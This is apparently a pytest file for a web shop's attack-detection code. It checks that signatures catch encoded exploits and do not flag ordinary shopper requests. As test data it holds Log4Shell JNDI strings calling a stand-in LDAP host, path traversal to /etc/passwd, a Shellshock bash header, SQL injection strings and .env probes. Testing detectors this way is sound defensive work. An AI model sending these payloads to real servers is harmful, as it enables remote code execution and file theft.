"""Every signature finds its own example, whatever it is wrapped in, and nothing that shoppers send."""

from __future__ import annotations

import re
from time import perf_counter
from urllib.parse import quote

import pytest

from ip_tracking.detection.matching import MOST_CHARS, plain
from ip_tracking.detection.signatures import EXPLOIT, SIGNATURES
from ip_tracking.detection.symptoms import MISSING_PATH, symptoms_of
from tests.detection.events import asked

BY_NAME = {signature.name: signature for signature in SIGNATURES}


def example_of(signature):
    if {"path", "raw"} & set(signature.where) or signature.example.startswith("/"):
        return asked(signature.example)
    return asked("/", user_agent=signature.example)


@pytest.mark.parametrize("signature", SIGNATURES, ids=lambda signature: signature.name)
def test_a_signature_finds_its_own_example(signature):
    event = example_of(signature)

    shown = symptoms_of(event)

    assert f"{signature.symptom}:{signature.name}" in shown.split()


@pytest.mark.parametrize("signature", SIGNATURES, ids=lambda signature: signature.name)
def test_a_signature_is_described_and_short_enough_to_store(signature):
    assert re.fullmatch(r"[a-z0-9-]{2,32}", signature.name)
    assert signature.reason.endswith(".")
    assert signature.literals
    assert all(literal == literal.lower() for literal in signature.literals)


def test_signature_names_are_unique():
    assert len(BY_NAME) == len(SIGNATURES)


DISGUISES = {
    "percent": "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D",
    "percent, every character": "/?x=" + "".join(f"%{byte:02x}" for byte in b"${jndi:ldap://198.51.100.7/a}"),
    "percent, twice": "/?x=" + quote(quote("${jndi:ldap://198.51.100.7/a}", safe=""), safe=""),
    "%u": "/?x=%u0024%u007bjndi:ldap://198.51.100.7/a}",
    "backslash u": r"/?x=\u0024{jndi:ldap://198.51.100.7/a}",
    "upper case": "/?x=${JNDI:LDAP://198.51.100.7/a}",
    "nested": "/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.7/a}",
    "behind padding": "/?a=" + "x" * 4_000 + "&x=${jndi:ldap://198.51.100.7/a}",
}


@pytest.mark.parametrize("target", DISGUISES.values(), ids=DISGUISES)
def test_an_exploit_is_seen_through_its_disguise(target):
    shown = symptoms_of(asked(target))

    assert "exploit:jndi" in shown.split()


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd", "exploit:path-traversal"),
        ("/static/..%2f..%2f..%2fetc%2fpasswd", "exploit:path-traversal"),
        ("/static/%2e%2e/secret", "exploit:encoded-traversal"),
        ("/a/..%5c..%5cwindows%5cwin.ini", "exploit:path-traversal"),
        ("/?q=%EF%BC%9Cscript%EF%BC%9Ex", "exploit:script-injection"),
        ("/?id=1+union" + "+" * 40 + "select+1,2", "exploit:sql-union"),
        ("/?id=1%20UnIoN%0a/*x*/SeLeCt%201,2", "exploit:sql-union"),
        ("/?id=1'%09or%09'1'='1", "exploit:sql-condition"),
        ("/%2eenv", "sensitive-file:dotenv"),
        ("/.%65nv", "sensitive-file:dotenv"),
        ("/WP-Login.php", "foreign-software:wordpress"),
    ],
)
def test_encodings_are_undone_before_looking(target, expected):
    assert expected in symptoms_of(asked(target)).split()


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("() { ignored; }; /bin/bash -c 'id'", "exploit:shellshock"),
        ("Mozilla/5.0 ${jndi:dns://198.51.100.7/x}", "exploit:jndi"),
        ("Mozilla/5.0 (compatible; Nmap) sqlmap/1.8", "scanner-agent:attack-tool"),
    ],
)
def test_agents_are_looked_at_too(header, expected):
    assert expected in symptoms_of(asked("/", status=200, user_agent=header)).split()


def test_an_exploit_in_the_referer_is_seen_where_the_referer_is_known():
    event = asked("/", status=200)

    shown = symptoms_of(event, referer="${jndi:ldap://198.51.100.7/a}")

    assert shown == "exploit:jndi"


HARMLESS = [
    # the shop's own pages
    "/",
    "/api/products/",
    "/api/products/blue-shirt/",
    "/api/products/?page=2&ordering=-price&category=bags",
    "/api/products/?price_min=10&price_max=20.50",
    "/api/orders/6f1d2c3b-9a87-4e65-8c1d-0123456789ab/",
    "/api/cart/items/42/",
    "/api/coupons/apply?shipping=express&code=SAVE10",
    "/api/auth/token/refresh/",
    "/graphql?query={products{name,price}}",
    "/admin/login/?next=/admin/",
    # what people look for
    "/search?q=O%27Reilly",
    "/search?q=men's+shirts+%22slim+fit%22",
    "/search?q=rock+'n'+roll+and+blues",
    "/search?q=select+a+gift+from+our+shop",
    "/search?q=credit+union+select+card",
    "/search?q=drop+leaf+table",
    "/search?q=insert+into+frame;+black",
    "/search?q=black+or+white",
    "/search?q=6'+or+8'+table",
    "/search?q=turntable+from+Dual",
    "/search?q=sound+system+(5.1)",
    "/search?q=Sleep+(1964)",
    "/search?q=benchmark+(2+pack)",
    "/search?q=smoke+alert+(2+pack)",
    "/search?q=expression+(album)",
    "/search?q=JavaScript:+The+Good+Parts",
    "/search?q=5+%3C+10+%26+20+%3E+3",
    "/search?q=I+%3C3+you",
    "/search?q=100%25+cotton",
    "/search?q=50%+off",
    "/search?q=alexa+%26+echo+3",
    "/search?q=salt+%26+pepper;+cat+bowl",
    "/search?q=C%23+and+C%2B%2B",
    "/search?q=caf%C3%A9+cr%C3%A8me",
    "/search?q=%D1%87%D0%B0%D1%88%D0%BA%D0%B0",
    "/search?q=%E8%8C%B6%E6%9D%AF",
    "/search?q=a--b",
    "/search?q=what+is+http://",
    "/search?q=etc.+passwords+book",
    "/search?q=the+union+jack",
    "/search?q=shell+necklace",
    "/search?q=5.5+x+6.5+...",
    # what programs send
    "/api/products/?fields=name;id;price",
    "/api/products/?category=dog|cat|bird",
    "/api/products/?sort=price|id",
    "/api/products/?filter={%22price%22:{%22lt%22:5}}",
    "/api/products/?tags[]=a&tags[]=b&tags%5B%5D=c",
    "/api/products/?range=[null,null,null]",
    "/api/products/?onsale=true&filter='onsale=true'",
    "/api/report?from=2025-01-01T00:00:00%2B02:00&to=2025-02-01",
    "/go?next=%2Fcheckout%2F%3Fstep%3D2",
    "/go?next=https%253A%252F%252Fshop.example%252Fcart",
    "/go?url=https://cdn.example/img.jpg?",
    "/login?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r",
    "/share?utm_source=news&utm_medium=e-mail&gclid=Cj0KCQjw-abc_def~123.x",
    "/img?data=iVBORw0KGgoAAAANSUhEUgAA+/=&w=200",
    "/api/products/{{product.id}}/",
    "/api/products/${product.id}/",
    "/config.json",
    "/env.js",
    "/api/proc/12/",
    # what pages embed and browsers ask for
    "/static/css/main.3f2a1b.css",
    "/static/js/app.min.js?v=1.2.3",
    "/media/products/shirt (1).jpg",
    "/static/wp-logo.png",
    "/images/mysql.png",
    "/favicon.ico",
    "/robots.txt",
    "/ads.txt",
    "/app-ads.txt",
    "/sitemap.xml",
    "/apple-touch-icon.png",
    "/apple-touch-icon-120x120-precomposed.png",
    "/.well-known/security.txt",
    "/.well-known/acme-challenge/Zr9tQx0aWn3LkPd7Ve1u",
    "/.well-known/apple-app-site-association",
    "/books/mysql-basics/",
    "/craft/glue/",
    "/seashell-necklace.html",
]


@pytest.mark.parametrize("target", HARMLESS)
def test_what_shoppers_and_their_programs_send_shows_nothing(target):
    assert symptoms_of(asked(target, status=200)) == ""


@pytest.mark.parametrize("target", HARMLESS)
def test_a_harmless_address_that_is_gone_is_missing_at_most(target):
    assert symptoms_of(asked(target, status=404)) in {"", MISSING_PATH}


@pytest.mark.parametrize(
    "agent",
    [
        "",
        "-",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/29.3709; U; id) Presto/2.8.119 Version/11.10",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "python-httpx/0.27.0",
        "curl/8.5.0",
        "Wget/1.21.4",
        "Shop%20App/7 CFNetwork/1568.2 Darwin/24.1.0",
        "okhttp/4.12.0",
        "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)",
    ],
)
def test_ordinary_agents_show_nothing(agent):
    assert symptoms_of(asked("/api/products/", status=200, user_agent=agent)) == ""


def test_a_file_that_the_site_itself_serves_is_no_secret():
    served, missing = asked("/static/site.pem", status=200), asked("/static/site.pem", status=404)

    assert symptoms_of(served) == ""
    assert "sensitive-file:key-file" in symptoms_of(missing).split()


def test_the_pictures_of_a_site_that_was_wordpress_once_are_no_search_for_it():
    assert symptoms_of(asked("/wp-content/themes/old/logo.png")) == ""


def test_a_password_file_that_was_really_served_still_counts():
    assert "sensitive-file:dotenv" in symptoms_of(asked("/.env", status=200)).split()


def test_a_site_that_redirects_everything_serves_nothing():
    assert symptoms_of(asked("/wp-login.php", status=301)) == "foreign-software:wordpress"


PUMPS = [
    "(",
    "'",
    ")",
    "0",
    "/",
    ".",
    "../",
    "<a ",
    "union ",
    "or '",
    "'or'",
    ";",
    "|",
    "{",
    "${",
    "%{",
    "select ",
    "%25",
]


@pytest.mark.parametrize("pump", PUMPS)
def test_a_long_address_cannot_slow_us_down(pump):
    """Patterns that backtrack would take minutes here; the bound leaves room for a busy machine."""
    text = (pump * MOST_CHARS)[:MOST_CHARS]

    began = perf_counter()
    for signature in SIGNATURES:
        re.compile(signature.pattern, re.DOTALL).search(signature.literals[0] + text)
    symptoms_of(asked(f"/{text}?{text}", user_agent=text))

    assert perf_counter() - began < 2


def test_the_examples_of_exploits_are_exploits_alone_in_an_otherwise_plain_log():
    exploits = [signature for signature in SIGNATURES if signature.symptom == EXPLOIT]

    assert len(exploits) > 30
    assert plain("/%252E%252e/%C0%AE", "path") == "/../."
